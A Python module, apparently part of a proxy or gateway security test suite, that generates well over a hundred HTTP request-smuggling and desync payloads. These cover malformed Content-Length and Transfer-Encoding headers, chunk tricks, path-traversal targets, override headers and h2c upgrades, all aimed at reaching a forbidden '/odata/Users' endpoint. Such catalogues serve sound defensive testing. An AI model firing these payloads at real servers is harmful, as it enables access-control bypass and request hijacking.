"""Known ways to make two servers see different requests in the same bytes.

Each attack is written against a caller who may list and create assets and nothing else; ``FORBIDDEN`` is what it
tries to bring through. Sources: RFC 9112 (sections 2.2, 5, 6, 7 and 11), the published research on CL.TE, TE.CL,
TE.TE, CL.0, 0.CL, TE.0, chunk extensions, Expect and h2c, and the parsers' own changelogs.
"""

from collections.abc import Iterator

PREFIX = b"/acme/dev/orchestrator_"
LIST = PREFIX + b"/odata/Assets"
CREATE = PREFIX + b"/odata/Assets"
FORBIDDEN = b"/odata/Users"
ALLOWED = frozenset({("GET", "/odata/Assets"), ("POST", "/odata/Assets")})


def attacks_with(head: bytes) -> dict[str, bytes]:
    """Return every attack by name, ``head`` being the lines that each honest request has."""
    return dict(_Writer(head).attacks())


class _Writer:
    def __init__(self, head: bytes) -> None:
        self._head = head
        self._inner = b"GET " + PREFIX + FORBIDDEN + b" HTTP/1.1\r\n" + head + b"\r\n"
        # As the upstream itself would be addressed.
        self._bare = b"GET " + FORBIDDEN + b" HTTP/1.1\r\nHost: x\r\n\r\n"

    def attacks(self) -> Iterator[tuple[str, bytes]]:
        yield from self._lengths()
        yield from self._codings()
        yield from self._chunks()
        yield from self._lines()
        yield from self._targets()
        yield from self._hops()
        yield from self._orders()

    def _post(self, more: bytes, body: bytes, method: bytes = b"POST", version: bytes = b"1.1") -> bytes:
        path = LIST if method in (b"GET", b"HEAD", b"OPTIONS") else CREATE
        return method + b" " + path + b" HTTP/" + version + b"\r\n" + self._head + more + b"\r\n" + body

    def _get(self, target: bytes = LIST, more: bytes = b"") -> bytes:
        return b"GET " + target + b" HTTP/1.1\r\n" + self._head + more + b"\r\n"

    def _lengths(self) -> Iterator[tuple[str, bytes]]:
        inner, bare = self._inner, self._bare
        for name, value in {
            "plus": b"+%d",
            "minus": b"-%d",
            "zeros": b"000%d",
            "hex": b"0x%x",
            "underscore": b"1_%d",
            "list": b"%d, 0",
            "same twice in a list": b"%d,%d",
            "fraction": b"%d.0",
            "exponent": b"%de0",
            "space within": b"1 %d",
            "vertical tab": b"\x0b%d",
            "form feed": b"%d\x0c",
            "no-break space": b"\xa0%d",
            "carriage return": b"%d\r",
            "NUL": b"%d\x00",
            "fullwidth digits": "\uff11\uff12".encode(),
            "quoted": b'"%d"',
            "beyond 64 bits": b"18446744073709551616",
            "wraps around 64 bits": b"18446744073709551620",
            "empty": b"",
        }.items():
            count = value.count(b"%")
            written = value % ((len(bare),) * count) if count else value
            yield f"length: {name}", self._post(b"Content-Length: " + written + b"\r\n", bare)
        for name, lines in {
            "two that differ": b"Content-Length: 0\r\nContent-Length: %d\r\n" % len(bare),
            "two that differ, turned": b"Content-Length: %d\r\nContent-Length: 0\r\n" % len(bare),
            "two that agree": b"Content-Length: %d\r\nContent-Length: %d\r\n" % (len(bare), len(bare)),
            "space before the colon": b"Content-Length : %d\r\n" % len(bare),
            "tab before the colon": b"Content-Length\t: %d\r\n" % len(bare),
            "underscore for the hyphen": b"Content_Length: %d\r\n" % len(bare),
            "folded": b"Content-Length:\r\n %d\r\n" % len(bare),
            "hidden in another line": b"X: y\rContent-Length: %d\r\n" % len(bare),
            "after a bare line feed": b"X: y\nContent-Length: %d\r\n" % len(bare),
            "named as a hop": b"Connection: Content-Length\r\nContent-Length: %d\r\n" % len(bare),
        }.items():
            yield f"lengths: {name}", self._post(lines, bare)
        for method in (b"GET", b"HEAD", b"OPTIONS", b"DELETE"):
            lines = b"Content-Length: %d\r\n" % len(bare)
            yield f"length: a body with {method.decode()}", self._post(lines, bare, method)
        yield "length: shorter than the body", self._post(b"Content-Length: 2\r\n", b"{}" + inner)
        yield "length: longer than the body", self._post(b"Content-Length: 4000\r\n", inner)
        yield "length: none with a body", self._post(b"", inner)
        yield "length: HTTP/1.0 without one", self._post(b"Connection: keep-alive\r\n", inner, version=b"1.0")

    def _codings(self) -> Iterator[tuple[str, bytes]]:
        both = b"Content-Length: 4\r\n"
        ended = b"0\r\n\r\n" + self._inner
        for name, lines in {
            "with a length before": both + b"Transfer-Encoding: chunked\r\n",
            "with a length after": b"Transfer-Encoding: chunked\r\n" + both,
            "x-chunked": both + b"Transfer-Encoding: xchunked\r\n",
            "twice": both + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
            "twice, no length": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
            "twice in a list": b"Transfer-Encoding: chunked, chunked\r\n",
            "then identity": both + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
            "after identity": both + b"Transfer-Encoding: identity, chunked\r\n",
            "identity alone": both + b"Transfer-Encoding: identity\r\n",
            "before gzip": both + b"Transfer-Encoding: chunked, gzip\r\n",
            "after gzip": b"Transfer-Encoding: gzip, chunked\r\n",
            "trailing comma": both + b"Transfer-Encoding: chunked,\r\n",
            "leading comma": both + b"Transfer-Encoding: ,chunked\r\n",
            "semicolon": both + b"Transfer-Encoding: chunked;q=1\r\n",
            "quoted": both + b'Transfer-Encoding: "chunked"\r\n',
            "space before the colon": both + b"Transfer-Encoding : chunked\r\n",
            "tab before the colon": both + b"Transfer-Encoding\t: chunked\r\n",
            "tab before the value": both + b"Transfer-Encoding:\tchunked\r\n",
            "vertical tab": both + b"Transfer-Encoding:\x0bchunked\r\n",
            "form feed after": both + b"Transfer-Encoding: chunked\x0c\r\n",
            "NUL after": both + b"Transfer-Encoding: chunked\x00\r\n",
            "0xff before": both + b"Transfer-Encoding: \xffchunked\r\n",
            "no-break space": both + b"Transfer-Encoding: \xa0chunked\r\n",
            "folded": both + b"Transfer-Encoding:\r\n chunked\r\n",
            "folded name": both + b"X: y\r\n Transfer-Encoding: chunked\r\n",
            "after a bare carriage return": both + b"X: y\rTransfer-Encoding: chunked\r\n",
            "after a bare line feed": both + b"X: y\nTransfer-Encoding: chunked\r\n",
            "bare line feed at its end": both + b"Transfer-Encoding: chunked\n",
            "upper case": both + b"TRANSFER-ENCODING: CHUNKED\r\n",
            "a space in front": both + b" Transfer-Encoding: chunked\r\n",
            "underscore": both + b"Transfer_Encoding: chunked\r\n",
            "dotless i": both + "Transfer-Encod\u0131ng: chunked\r\n".encode(),
            "kelvin sign": both + "Transfer-Encoding: chun\u212aed\r\n".encode(),
            "empty": both + b"Transfer-Encoding:\r\n",
            "in TE": both + b"TE: chunked\r\n",
            "named as a hop": b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n" + both,
            "cut at NUL": both + b"Transfer-Encoding: chunked\x00, identity\r\n",
        }.items():
            yield f"coding: {name}", self._post(lines, ended)
        yield "coding: HTTP/1.0", self._post(b"Transfer-Encoding: chunked\r\n", ended, version=b"1.0")
        yield "coding: with GET", self._post(b"Transfer-Encoding: chunked\r\n", ended, b"GET")
        yield "coding: with OPTIONS (TE.0)", self._post(b"Transfer-Encoding: chunked\r\n", ended, b"OPTIONS")
        body = b"%x\r\n" % len(self._bare) + self._bare + b"\r\n0\r\n\r\n"
        yield "coding: length of the chunk's line (TE.CL)", self._post(both + b"Transfer-Encoding: chunked\r\n", body)

    def _chunks(self) -> Iterator[tuple[str, bytes]]:
        inner = self._inner
        for name, body in {
            "extension": b"2;a=b\r\n{}\r\n0\r\n\r\n",
            "extension with a line feed": b"2;\n{}\r\n0\r\n\r\n",
            "extension with a carriage return": b"2;a\rb\r\n{}\r\n0\r\n\r\n",
            "quoted extension with a line's end": b'2;a="\r\n{}\r\n0\r\n\r\n',
            "bare line feeds": b"2\n{}\n0\n\n",
            "bare line feed after the size": b"2\n{}\r\n0\r\n\r\n",
            "bare carriage return after the size": b"2\r{}\r\n0\r\n\r\n",
            "no line's end after the data": b"2\r\n{}0\r\n\r\n",
            "two letters for the line's end": b"2\r\n{}XX0\r\n\r\n",
            "more data than its size": b"2\r\n{}{}\r\n0\r\n\r\n",
            "less data than its size": b"5\r\n{}\r\n0\r\n\r\n",
            "0x": b"0x2\r\n{}\r\n0\r\n\r\n",
            "minus": b"-2\r\n{}\r\n0\r\n\r\n",
            "plus": b"+2\r\n{}\r\n0\r\n\r\n",
            "underscore": b"0_2\r\n{}\r\n0\r\n\r\n",
            "space before": b" 2\r\n{}\r\n0\r\n\r\n",
            "space after": b"2 \r\n{}\r\n0\r\n\r\n",
            "leading zeros": b"0000000000000000000000000002\r\n{}\r\n0\r\n\r\n",
            "wraps around 64 bits": b"10000000000000002\r\n{}\r\n0\r\n\r\n",
            "wraps around 32 bits": b"100000002\r\n{}\r\n0\r\n\r\n",
            "empty size": b"\r\n{}\r\n0\r\n\r\n",
            "two ends": b"2\r\n{}\r\n0\r\n\r\n0\r\n\r\n",
            "double zero": b"2\r\n{}\r\n00\r\n\r\n",
            "last chunk with an extension": b"2\r\n{}\r\n0;a\r\n\r\n",
            "length in a trailer": b"2\r\n{}\r\n0\r\nContent-Length: 90\r\n\r\n",
            "coding in a trailer": b"2\r\n{}\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n",
            "authorization in a trailer": b"2\r\n{}\r\n0\r\nAuthorization: Bearer other\r\n\r\n",
            "malformed trailer": b"2\r\n{}\r\n0\r\nX y: z\r\n\r\n",
            "trailer with a bare line feed": b"2\r\n{}\r\n0\r\nX: y\n\r\n",
        }.items():
            yield f"chunk: {name}", self._post(b"Transfer-Encoding: chunked\r\n", body + inner)

    def _lines(self) -> Iterator[tuple[str, bytes]]:
        inner = self._inner
        for name, lines in {
            "another host": b"Host: other\r\n",
            "host with a path": b"Host: a/b\r\n",
            "host in a folded line": b"X: y\r\n Host: other\r\n",
            "line's end in a value": b"X: a\r\n\r\n" + inner,
            "carriage return in a value": b"X: a\r\r\n",
            "NUL in a value": b"X: a\x00b\r\n",
            "NUL in a name": b"X\x00: a\r\n",
            "no colon": b"GET /odata/Users HTTP/1.1\r\n",
            "empty name": b": a\r\n",
            "space in a name": b"X Y: a\r\n",
            "letter beyond ASCII in a name": b"X\xe4: a\r\n",
            "vertical tab in a name": b"X\x0b: a\r\n",
            "method overridden": b"X-HTTP-Method-Override: DELETE\r\n",
            "target overridden": b"X-Original-URL: /odata/Users\r\nX-Rewrite-URL: /odata/Users\r\n",
        }.items():
            yield f"line: {name}", self._get(more=lines) + inner
        yield "line: two bare line feeds end the head", (self._get()[:-2] + b"\n\n" + inner)
        yield "line: blank lines before the request", b"\r\n\r\n" + self._get()
        yield "line: a blank before the request", b" " + self._get()
        yield "line: HTTP/0.9", b"GET " + LIST + b"\r\n"
        yield "line: HTTP/2 preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + inner
        yield "line: HTTP/1.2", self._get().replace(b"HTTP/1.1", b"HTTP/1.2")
        yield "line: http in lower case", self._get().replace(b"HTTP/1.1", b"http/1.1")
        yield "line: two blanks", self._get().replace(b" HTTP", b"  HTTP", 1)
        yield "line: tab for a blank", self._get().replace(b"GET ", b"GET\t", 1)
        yield "line: a third word", self._get().replace(b" HTTP/1.1", b" x HTTP/1.1", 1)
        yield "line: lower case method", self._get().replace(b"GET", b"get", 1)
        yield "line: method with a line's end", b"GET\r\n /x HTTP/1.1\r\n\r\n" + inner

    def _targets(self) -> Iterator[tuple[str, bytes]]:
        inside = b" HTTP/1.1\r\nHost: x\r\n\r\nGET " + FORBIDDEN
        encoded = inside.replace(b" ", b"%20").replace(b"\r", b"%0d").replace(b"\n", b"%0a")
        for name, target in {
            "a request in it, encoded": LIST + encoded,
            "a request in the query, encoded": LIST + b"?$top=1" + encoded,
            "twice encoded": LIST + encoded.replace(b"%", b"%25"),
            "dots": LIST + b"/../Users",
            "encoded dots": LIST + b"/%2e%2e/Users",
            "encoded slash": LIST + b"%2f..%2fUsers",
            "backslash": LIST + b"\\..\\Users",
            "encoded backslash": LIST + b"%5c..%5cUsers",
            "matrix parameter": LIST + b"/..;/Users",
            "NUL": LIST + b"%00/../Users",
            "overlong UTF-8": LIST + b"/%c0%ae%c0%ae/Users",
            "fragment": LIST + b"#/../Users",
            "question mark twice": LIST + b"?$top=1?/../../Users",
            "semicolon in the query": LIST + b"?$top=1;x=/odata/Users",
            "bytes beyond ASCII": LIST + b"/\xff\xfe",
            "absolute, another host": b"http://other" + PREFIX + FORBIDDEN,
            "absolute, allowed": b"http://other" + LIST,
            "absolute without a path": b"http://other",
            "authority": b"other:80",
            "asterisk": b"*",
            "two slashes": b"//other" + LIST,
            "scheme within": PREFIX + b"/http://other/odata/Users",
        }.items():
            yield f"target: {name}", self._get(target)
        yield "target: CONNECT", b"CONNECT other:80 HTTP/1.1\r\n" + self._head + b"\r\n" + self._inner

    def _hops(self) -> Iterator[tuple[str, bytes]]:
        bare = self._bare
        for name, lines in {
            "upgrade to h2c": b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n",
            "upgrade to websocket": b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n",
            "upgrade to TLS": b"Connection: Upgrade\r\nUpgrade: TLS/1.2\r\n",
            "authorization as a hop": b"Connection: authorization, host\r\n",
            "close and keep-alive": b"Connection: close, keep-alive\r\n",
            "proxy connection": b"Proxy-Connection: keep-alive\r\nConnection: close\r\n",
            "trailers asked for": b"Connection: TE\r\nTE: trailers\r\nTrailer: Content-Length\r\n",
        }.items():
            yield f"hop: {name}", self._get(more=lines) + bare
            if b"Upgrade:" in lines:
                length = b"Content-Length: %d\r\n" % len(bare)
                yield f"hop: {name} with a body", self._post(lines + length, bare)
                chunk = b"%x\r\n%b\r\n0\r\n\r\n" % (len(bare), bare)
                yield f"hop: {name} with a body in chunks", self._post(lines + b"Transfer-Encoding: chunked\r\n", chunk)
        lines = b"Expect: 100-continue\r\nContent-Length: %d\r\n" % len(bare)
        yield "expect: with GET (0.CL)", self._post(lines, bare, b"GET")
        yield "expect: obfuscated", self._post(lines.replace(b"100", b"y 100"), bare)
        yield "expect: body sent at once", self._post(lines, bare)
        yield "expect: twice", self._post(b"Expect: 100-continue\r\n" + lines, bare)

    def _orders(self) -> Iterator[tuple[str, bytes]]:
        inner = self._inner
        honest = self._post(b"Content-Length: 2\r\n", b"{}")
        yield "order: forbidden behind allowed", honest + inner
        yield "order: allowed, forbidden, allowed", self._get() + inner + self._get()
        yield "order: many at once", (self._get() + honest) * 8
        yield "order: an answer's text as a request", b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n" + inner
        yield "order: cut in the middle of a head", self._get() + inner[: len(inner) // 2]
        yield "order: cut in the middle of a body", self._get() + self._post(b"Content-Length: 40\r\n", b"{")
        yield "order: cut in the middle of a chunk", self._post(b"Transfer-Encoding: chunked\r\n", b"ff\r\n{")
